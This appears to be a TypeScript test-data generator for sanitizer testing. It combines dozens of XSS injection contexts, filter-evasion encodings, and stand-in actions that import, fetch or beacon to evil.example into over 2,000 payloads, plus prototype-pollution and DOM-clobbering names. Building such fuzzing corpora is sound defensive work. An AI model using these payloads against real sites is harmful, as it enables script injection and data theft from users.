/** Strings that try to be more than words: every way in, with everything that could run, in every disguise. */

/** What runs if a payload gets through; the page of the tests knows it. `evil.example` is nobody's. */
const acts = [
  "owned()",
  "window['own'+'ed']()",
  "import('https://evil.example/x.js')",
  "fetch('//evil.example/')",
  "new Image().src='//evil.example/'",
  "top.owned()",
  "(()=>{owned()})()",
  "alert(1)",
];

/** Ways to make a parser, a style sheet or an address run `js`. */
const contexts: ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><script>${js}</script>`,
  (js) => `--><script>${js}</script>`,
  (js) => `</template><script>${js}</script><template>`,
  (js) => `</style><script>${js}</script><style>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `</title></textarea></noscript><img src=x onerror=${js}>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `" autofocus onfocus="${js}" x="`,
  (js) => `' onpointerover='${js}' x='`,
  (js) => `x onload=${js} `,
  (js) => `\` onerror=\`${js}`,
  (js) => `<svg onload=${js}>`,
  (js) => `<svg><animate onbegin=${js} attributeName=x dur=1s>`,
  (js) => `<svg><script href="data:text/javascript,${js}"/></svg>`,
  (js) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${js}>#x"/>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<math><a xlink:href="javascript:${js}">x`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>">`,
  (js) => `<object data="javascript:${js}"><embed src="javascript:${js}">`,
  (js) => `<template shadowrootmode=open><img src=x onerror=${js}></template>`,
  (js) => `<details open ontoggle=${js}><summary>`,
  (js) => `<video><source onerror=${js}></video>`,
  (js) => `<form><button formaction="javascript:${js}">`,
  (js) =>
    `<base href="https://evil.example/"><meta http-equiv=refresh content="0;javascript:${js}">`,
  (js) => `<link rel=stylesheet href="//evil.example/x.css" onerror=${js}>`,
  (js) => `<p style="background:url(//evil.example/p);width:expression(${js})">`,
  (js) => `}</style><style>*{background:url(//evil.example/s)}/*${js}*/`,
  (js) => `;background:url(//evil.example/b);x:expression(${js})`,
  (js) => `"]{} *{background:url(//evil.example/q)} [x="${js}`,
  (js) => `javascript:${js}`,
  (js) => `java\nscript:${js}`,
  (js) => `\u0001javascript:${js}`,
  (js) => `JaVaScRiPt:${js}//https://social.example/`,
  (js) => `javascript\t:${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `data:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString("base64")}`,
  (js) => `VBScript:${js}`,
  (js) => `blob:https://social.example/${js}`,
  (js) => `view-source:javascript:${js}`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `\${${js}}<%=${js}%>`,
];

/** How a payload hides from those who look for it. */
const disguises: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll("<", "\u0000<\u0000"),
  (text) => text.replace(/[a-z]+/g, (word) => word.toUpperCase()),
  (text) => `\u202E${text}\u2066`,
  (text) => text.replaceAll("<", "&lt;").replaceAll('"', "&quot;"),
  (text) => [...text].join("\u200B"),
  (text) => `\uD800${text}\uDC00`,
  (text) => text.replaceAll(" ", "\u000C").replaceAll(":", "&colon;"),
];

/** Names that mean something to objects, forms and documents. */
export const names = [
  ...["__proto__", "constructor", "hasOwnProperty", "toString", "valueOf", "prototype", "toJSON"],
  ...["__defineGetter__", "__lookupSetter__", "isPrototypeOf", "then", "length", "name", "id"],
  ...["getElementById", "querySelector", "cookie", "body", "forms", "attributes", "innerHTML"],
  ...["parentNode", "children", "nodeName", "submit", "action", "self", "undefined", "null", "NaN"],
  ...[
    "\u0000",
    "\uD800",
    "\uDFFF",
    "\u202E",
    "\u2028",
    "&",
    "#",
    "?",
    "%",
    "%00",
    "%E0%A4%A",
    "//",
  ],
];

/** At least 2,000, each another. */
export function payloads(): string[] {
  const made = contexts.flatMap((context) =>
    acts.flatMap((js) => disguises.map((disguise) => disguise(context(js)))),
  );
  return [...new Set([...names, ...made])];
}
